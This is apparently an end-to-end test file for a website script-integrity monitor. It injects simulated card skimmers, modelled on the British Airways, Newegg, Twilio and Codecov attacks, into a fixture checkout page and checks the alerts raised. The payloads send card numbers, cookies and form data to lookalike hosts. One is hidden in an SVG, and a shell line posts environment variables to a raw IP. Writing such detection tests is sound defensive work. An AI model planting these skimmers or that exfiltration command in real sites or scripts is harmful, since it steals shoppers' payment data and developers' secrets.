// End to end: real Chromium against the fixture shop; each attack must raise the right alert.

import assert from 'node:assert/strict';
import { afterAll, beforeAll, describe, it } from 'vitest';
import { APP_JS, CHECKOUT_HTML, CSP, DEMO_SKIMMER, ICONS_SVG, LOADER_JS, PAY_SDK_JS, WIDGET_JS } from '../fixtures/shop.js';
import { baselinedShop, type Scenario, type ScanJson } from './scenario.js';

/** The Newegg-style skimmer: an inline submit listener posting the form to a lookalike host. */
const NEWEGG_INLINE = `<script>document.getElementById('checkout').addEventListener('submit', function () { fetch('http://neweggstats.test:{{PORT}}/c', { method: 'POST', body: new FormData(this) }); });</script>`;

function setCheckout(s: Scenario, body: string): void {
  s.site.set('shop.test', '/checkout', { body, headers: { 'content-security-policy': CSP, 'x-frame-options': 'DENY' } });
}

function only(json: ScanJson, type: string) {
  return json.alerts.filter((a) => a.type === type);
}

describe('attacks on a baselined checkout page', () => {
  let s: Scenario;
  beforeAll(async () => { s = await baselinedShop({ withResource: true }); });
  afterAll(async () => { await s.close(); });

  it('stays quiet on an unchanged rescan', async () => {
    const { result, json } = await s.scan();
    assert.equal(result.code, 0, result.stderr);
    assert.deepEqual(json.alerts, []);
    assert.equal(json.exitCode, 0);
  });

  it("catches the demo's skimmer in the act: exfiltration.detected, and app.js listed as touching the card field", async () => {
    // The page also holds a processor's iframe with a card field of its own: the pass must still submit the shop's form.
    s.site.set('shop.test', '/static/app.js', APP_JS + DEMO_SKIMMER);
    const { json } = await s.scan();
    const exfil = only(json, 'exfiltration.detected');
    assert.equal(exfil.length, 1, JSON.stringify(json.alerts.map((a) => [a.type, a.summary]), null, 2));
    assert.equal(exfil[0]!.subject, 'shop-cdn-stats.test');
    assert.match(String(exfil[0]!.details.script), /\/static\/app\.js$/);
    assert.equal(exfil[0]!.details.channel, 'beacon');
    const inventory = JSON.parse((await s.cli('inventory', '--json')).stdout) as { fieldAccess: { script: string | null; actions: string[] }[] };
    const app = inventory.fieldAccess.find((f) => f.script?.endsWith('/static/app.js'));
    assert.ok(app && app.actions.some((a) => /mouseup on button#pay/.test(a)), JSON.stringify(inventory.fieldAccess));
    s.site.set('shop.test', '/static/app.js', APP_JS);
    // Rejected, so the approved app.js stays the one later cases are compared with.
    await s.cli('reject', ...json.alerts.map((a) => String(a.id)), '--by', 'alice');
  });

  it('flags lines appended to a first-party external script (British Airways)', async () => {
    const skimmer = `\nwindow.addEventListener('load', function () { document.getElementById('pay').addEventListener('mouseup', function () {\n  var d = JSON.stringify({ n: document.forms[0].cardnumber.value });\n  setTimeout(function () { navigator.sendBeacon('http://shop-analytics.test:${s.site.port}/gateway/api', d); }, 500); }); });\n`;
    s.site.set('shop.test', '/static/app.js', APP_JS + skimmer);
    const { result, json } = await s.scan();
    assert.equal(result.code, 1);
    const changed = only(json, 'script.changed');
    assert.equal(changed.length, 1, JSON.stringify(json.alerts, null, 2));
    assert.match(changed[0]!.subject, /\/static\/app\.js$/);
    assert.equal(changed[0]!.severity, 'critical', 'a payment-field listener that sends data out is a skimmer');
    assert.match(changed[0]!.summary, /skimmer pattern/);
    const findings = changed[0]!.details.findings as { title: string }[];
    assert.ok(findings.some((f) => /adds mouseup on #pay listener/.test(f.title)), JSON.stringify(findings));
    assert.equal(changed[0]!.status, 'open');
    for (const field of ['id', 'type', 'severity', 'status', 'target', 'page', 'profile', 'subject', 'summary', 'firstSeen', 'lastSeen']) {
      assert.ok(field in changed[0]!, `alert has ${field}`);
    }
    const shown = await s.cli('show', String(changed[0]!.id));
    assert.match(shown.stdout, /\+.*sendBeacon/, 'show prints the added lines as a diff');

    const again = await s.scan();
    assert.equal(again.result.code, 0, 'seeing the same unapproved change again raises nothing new');
    const listed = JSON.parse((await s.cli('alerts', '--json')).stdout) as ScanJson;
    const same = listed.alerts.filter((a) => a.id === changed[0]!.id);
    assert.equal(same.length, 1);
    assert.ok(same[0]!.lastSeen > changed[0]!.lastSeen, 'lastSeen moves forward');
    assert.equal(listed.alerts.filter((a) => a.type === 'script.changed').length, 1, 'no duplicate alert');

    const approve = await s.cli('approve', String(changed[0]!.id), '--note', 'test', '--by', 'bob');
    assert.equal(approve.code, 0);
    s.site.set('shop.test', '/static/app.js', APP_JS);
  });

  it('rates a changed third-party script at a versioned URL critical (Twilio)', async () => {
    s.site.set('cdn.test', '/libs/widget-2.4.1.min.js', `${WIDGET_JS};(function(){var i=new Image();i.src='http://cdn-metrics.test:${s.site.port}/p?d='+btoa(document.cookie)})();`);
    const { json } = await s.scan();
    const changed = only(json, 'script.changed');
    assert.equal(changed.length, 1);
    assert.match(changed[0]!.subject, /widget-2\.4\.1\.min\.js$/);
    assert.equal(changed[0]!.severity, 'critical');
    s.site.set('cdn.test', '/libs/widget-2.4.1.min.js', WIDGET_JS);
    await s.cli('approve', '--all', '--by', 'alice');
  });

  it('reports a new inline script (Newegg)', async () => {
    const inline = NEWEGG_INLINE;
    setCheckout(s, CHECKOUT_HTML.replace('</body>', `${inline}</body>`));
    const { json } = await s.scan();
    const added = only(json, 'script.added');
    assert.equal(added.length, 1, JSON.stringify(json.alerts, null, 2));
    assert.equal(added[0]!.details.kind, 'inline');
    assert.match(added[0]!.subject, /^inline:[0-9a-f]{12}$/);
    assert.equal(added[0]!.severity, 'critical', 'a new submit listener that posts the form is a skimmer');
    assert.equal(only(json, 'script.removed').length, 0);
    await s.cli('approve', '--all', '--by', 'alice');
  });

  it('reports a modified inline script as one change, not a removal and an addition', async () => {
    const inline = NEWEGG_INLINE;
    const modified = CHECKOUT_HTML.replace("window.dataLayer.push({ page: 'checkout' });", "window.dataLayer.push({ page: 'checkout' }); new Image().src = 'http://gtm-cdn.test:" + s.site.port + "/c?d=' + btoa(location.href);");
    setCheckout(s, modified.replace('</body>', `${inline}</body>`));
    const { json } = await s.scan();
    const changed = only(json, 'script.changed');
    assert.equal(changed.length, 1, JSON.stringify(json.alerts, null, 2));
    assert.equal(changed[0]!.details.kind, 'inline');
    assert.equal(only(json, 'script.added').length, 0);
    assert.equal(only(json, 'script.removed').length, 0);
    await s.cli('approve', '--all', '--by', 'alice');
  });

  it('reports a script injected by another script, naming the injector', async () => {
    s.site.set('shop.test', '/static/loader.js', `${LOADER_JS}\n(function () { var x = document.createElement('script'); x.src = 'http://jquery-cdn.test:{{PORT}}/jquery.min.js'; document.body.appendChild(x); })();`);
    s.site.set('jquery-cdn.test', '/jquery.min.js', 'window.__q = 1;');
    const { json } = await s.scan();
    const added = only(json, 'script.added').filter((a) => /jquery\.min\.js$/.test(a.subject));
    assert.equal(added.length, 1, JSON.stringify(json.alerts, null, 2));
    assert.equal(added[0]!.details.kind, 'dynamic');
    const initiator = added[0]!.details.initiator as { url: string };
    assert.match(initiator.url, /\/static\/loader\.js$/);
    assert.match(added[0]!.summary, /inserted by .*loader\.js/);
    await s.cli('approve', '--all', '--by', 'alice');
  });

  it('reports new code hidden in an image and run through new Function, naming the script that ran it', async () => {
    s.site.set('shop.test', '/img/icons.svg', ICONS_SVG.replace('window.iconsReady = true;', `window.iconsReady = true; document.forms[0].addEventListener('submit', function () { new Image().src = 'http://fontsawesome.test:{{PORT}}/i.gif?d=' + btoa(document.forms[0].cardnumber.value); });`));
    const { json } = await s.scan();
    const runtime = json.alerts.filter((a) => a.details.kind === 'eval');
    assert.equal(runtime.length, 1, JSON.stringify(json.alerts, null, 2));
    assert.ok(['script.changed', 'script.added'].includes(runtime[0]!.type));
    assert.equal(runtime[0]!.severity, 'high');
    assert.match((runtime[0]!.details.initiator as { url: string }).url, /\/static\/icons\.js$/);
    assert.match(runtime[0]!.summary, /run by .*icons\.js/);
    assert.equal(json.alerts.length, 1, 'the loader itself did not change');
    s.site.set('shop.test', '/img/icons.svg', ICONS_SVG);
    await s.cli('approve', '--all', '--by', 'alice');
  });

  it('reports a changed script inside a cross-origin iframe', async () => {
    s.site.set('pay.test', '/sdk/pay-sdk.js', `${PAY_SDK_JS}\ndocument.addEventListener('input', function (e) { window.__stolen = e.target.value; });`);
    const { json } = await s.scan();
    const changed = only(json, 'script.changed');
    assert.equal(changed.length, 1, JSON.stringify(json.alerts, null, 2));
    assert.match(changed[0]!.subject, /^\[frame http:\/\/pay\.test:\d+\/frame\] .*pay-sdk\.js$/);
    await s.cli('approve', '--all', '--by', 'alice');
  });

  it('reports a dropped CSP header', async () => {
    s.site.set('shop.test', '/checkout', { body: CHECKOUT_HTML, headers: { 'x-frame-options': 'DENY' } });
    const { json } = await s.scan();
    const header = only(json, 'header.changed');
    assert.equal(header.length, 1, JSON.stringify(json.alerts, null, 2));
    assert.equal(header[0]!.subject, 'content-security-policy');
    assert.equal(header[0]!.severity, 'high');
    assert.match(header[0]!.summary, /removed/);
    await s.cli('approve', '--all', '--by', 'alice');
  });

  it('reports a changed hosted resource (Codecov)', async () => {
    s.site.set('downloads.test', '/bash', '#!/bin/sh\necho "uploading coverage"\ncurl -sm 0.5 -d "$(git remote -v)<<<<<< ENV $(env)" http://104.248.0.1/upload/v2 || true\ncurl -s https://uploads.test/upload\n');
    const { json } = await s.scan('--target', 'uploader');
    const changed = only(json, 'resource.changed');
    assert.equal(changed.length, 1, JSON.stringify(json.alerts, null, 2));
    assert.equal(changed[0]!.target, 'uploader');
    assert.ok(['high', 'critical'].includes(changed[0]!.severity));
  });

  it('reports a new exfiltration destination and the script that contacted it', async () => {
    s.site.set('shop.test', '/static/app.js', `${APP_JS}\nfetch('http://baways.test:{{PORT}}/gateway/app/dataprocessing/api', { method: 'POST', body: JSON.stringify({ c: 1 }), mode: 'no-cors' });`);
    s.site.set('baways.test', '/gateway/app/dataprocessing/api', 'ok');
    const { json } = await s.scan('--target', 'checkout');
    const connection = only(json, 'connection.added');
    assert.equal(connection.length, 1, JSON.stringify(json.alerts, null, 2));
    assert.match(connection[0]!.subject, /^baways\.test:\d+$/);
    assert.match(connection[0]!.summary, /static\/app\.js/);
    assert.equal(connection[0]!.severity, 'high');
  });

  it('keeps a rejected change visible while it is still served, without a duplicate alert', async () => {
    const open = JSON.parse((await s.cli('alerts', '--json')).stdout) as ScanJson;
    assert.ok(open.alerts.length >= 2);
    const reject = await s.cli('reject', ...open.alerts.map((a) => String(a.id)), '--note', 'incident INC-7', '--by', 'carol');
    assert.equal(reject.code, 0, reject.stderr);
    const { result, json } = await s.scan('--target', 'checkout');
    assert.equal(result.code, 0);
    assert.deepEqual(json.alerts, []);
    const still = (json as unknown as { rejectedStillServed: { id: number; status: string }[] }).rejectedStillServed;
    assert.ok(still.length >= 2 && still.every((a) => a.status === 'rejected'));
    const human = await s.cli('scan', '--target', 'checkout');
    assert.match(human.stdout, /WARNING: \d+ rejected changes still served/);
    const rejected = JSON.parse((await s.cli('alerts', '--status', 'rejected', '--json')).stdout) as ScanJson;
    const carols = rejected.alerts.filter((a) => a.note === 'incident INC-7');
    assert.equal(carols.length, open.alerts.length);
    assert.ok(carols.every((a) => a.decidedBy === 'carol'));
  });
});
